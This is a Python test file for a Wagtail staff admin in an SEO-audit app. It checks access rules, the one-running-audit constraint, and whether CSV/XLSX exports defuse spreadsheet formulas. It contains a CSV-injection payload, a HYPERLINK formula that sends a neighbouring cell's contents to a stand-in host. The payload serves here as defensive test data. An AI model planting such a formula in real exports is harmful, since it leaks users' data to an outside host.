"""Staff look after users, audits and support in the one Wagtail admin."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.admin.viewsets import viewsets
from wagtail.admin.viewsets.base import ViewSet

from audits.models import Finding, PageResult, SEOScan, Website
from vivaseo_site.core.spreadsheets import FORMULA_PREFIXES
from vivaseo_site.core.viewsets import SpreadsheetSafeExportMixin
from vivaseo_site.notifications.models import EmailLog
from vivaseo_site.support.models import SupportTicket

pytestmark = pytest.mark.django_db

VIEWSETS = [
    "website", "seoscan", "pageresult", "finding", "supportticket", "notification", "emaillog",
    "scan_configurations",
]  # fmt: skip


@pytest.fixture
def staff_client(client, make_user):
    client.force_login(make_user(email="staff@example.com", is_staff=True, is_superuser=True))
    return client


@pytest.fixture
def audit_data(make_user):
    customer = make_user(email="shop@example.com")
    website = Website.objects.create(user=customer, url="https://shop.example/", name="Shop")
    scan = SEOScan.objects.create(website=website, user=customer, url=website.url)
    page = PageResult.objects.create(scan=scan, url="https://shop.example/", status_code=200)
    Finding.objects.create(scan=scan, page=page, check_id="document-title", category="onpage",
                           severity="critical", detail="No title")  # fmt: skip
    SupportTicket.objects.create(user=customer, subject="Audit stuck", message="Help")
    return scan


@pytest.mark.parametrize("viewset", VIEWSETS)
def test_staff_can_list_search_and_export_each_area(staff_client, audit_data, viewset):
    url = reverse(f"{viewset}:index")
    response = staff_client.get(url)
    assert response.status_code == 200
    assert staff_client.get(url, {"q": "shop"}).status_code == 200


def test_audit_list_shows_the_customer_and_exports_csv(staff_client, audit_data):
    page = staff_client.get(reverse("seoscan:index")).content.decode()
    assert "shop@example.com" in page
    export = staff_client.get(reverse("seoscan:index"), {"export": "csv"})
    assert export.status_code == 200
    assert b"shop.example" in b"".join(export.streaming_content)


def test_customers_cannot_reach_the_staff_areas(client, audit_data, make_user):
    client.force_login(make_user(email="nosy@example.com"))
    for viewset in VIEWSETS:
        assert client.get(reverse(f"{viewset}:index")).status_code in (302, 403)


# Clicked in Excel, it sends the cell left of it to x: the classic CSV injection.
FORMULA = '=HYPERLINK("http://x/?"&A1,"y")'
OUR_APPS = {"audits", "accounts", "support", "notifications", "billing", "cms", "core"}


def exported_fields(viewset) -> list:
    fields = getattr(viewset, "list_export", ViewSet.UNDEFINED)
    if fields is ViewSet.UNDEFINED:  # then the index view's own (Wagtail's: none)
        fields = getattr(viewset.index_view_class, "list_export", None)
    return list(fields or ())


def exporting_viewsets() -> list:
    """Every admin listing of our models that offers CSV/XLSX, Wagtail's own included."""
    reverse("wagtailadmin_home")  # the admin URLs register the viewsets
    return [
        viewset
        for viewset in viewsets.viewsets
        if getattr(viewset, "app_label", None) in OUR_APPS and exported_fields(viewset)
    ]


@pytest.fixture
def hostile_rows(make_user):
    """Customer-typed and crawled text that a spreadsheet would run, in every exported area."""
    customer = make_user(email="shop@example.com")
    website = Website.objects.create(user=customer, url="https://shop.example/", name=FORMULA)
    scan = SEOScan.objects.create(website=website, user=customer, url=website.url,
                                  status="failed", error_message=FORMULA)  # fmt: skip
    page = PageResult.objects.create(scan=scan, url="https://shop.example/", title=FORMULA)
    Finding.objects.create(scan=scan, page=page, check_id="document-title", category="onpage",
                           severity="critical", detail=FORMULA)  # fmt: skip
    SupportTicket.objects.create(user=customer, subject=FORMULA, message="-1+1")
    EmailLog.objects.create(user=customer, to_email=customer.email, subject=FORMULA)


def test_every_admin_export_of_ours_defuses_formulas():
    found = exporting_viewsets()
    assert {viewset.model.__name__ for viewset in found} >= {
        "Website", "SEOScan", "PageResult", "Finding", "SupportTicket", "EmailLog"
    }  # fmt: skip
    for viewset in found:
        assert issubclass(viewset.index_view_class, SpreadsheetSafeExportMixin), viewset


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_a_formula_in_exported_text_comes_out_inert(staff_client, hostile_rows, export_format):
    for viewset in exporting_viewsets():
        response = staff_client.get(reverse(f"{viewset.url_namespace}:index"),
                                    {"export": export_format})  # fmt: skip
        assert response.status_code == 200, viewset.url_namespace
        if export_format == "csv":
            text = b"".join(response.streaming_content).decode()
            cells = [(cell, "s") for row in csv.reader(io.StringIO(text)) for cell in row]
        else:
            sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
            cells = [(cell.value, cell.data_type) for row in sheet.iter_rows() for cell in row]
        texts = [value for value, _type in cells if isinstance(value, str)]
        assert "'" + FORMULA in texts, viewset.url_namespace
        assert not [value for value in texts if value.startswith(FORMULA_PREFIXES)]
        assert all(data_type != "f" for _value, data_type in cells)


def test_staff_cannot_set_a_second_audit_of_a_website_running(staff_client, audit_data):
    """The one-running-audit rule is a database constraint; the admin form says so."""
    done = SEOScan.objects.create(
        website=audit_data.website, user=audit_data.user, url=audit_data.url, status="failed"
    )
    response = staff_client.post(
        reverse("seoscan:edit", args=[done.pk]), {"status": "processing", "error_message": ""}
    )
    assert response.status_code == 200
    assert "An audit of this website is already running." in response.content.decode()
    done.refresh_from_db()
    assert done.status == "failed"
